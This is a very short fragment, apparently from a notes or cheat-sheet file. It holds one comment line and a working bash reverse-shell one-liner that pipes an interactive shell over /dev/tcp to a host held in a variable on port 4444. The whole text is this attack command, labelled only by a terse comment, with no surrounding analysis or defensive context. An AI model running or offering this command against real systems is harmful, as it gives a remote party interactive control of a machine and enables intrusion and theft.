# (a) The shell of this machine on somebody else's connection.
bash -c "bash -i >& /dev/tcp/$SCENE_ADDRESS/4444 0>&1"
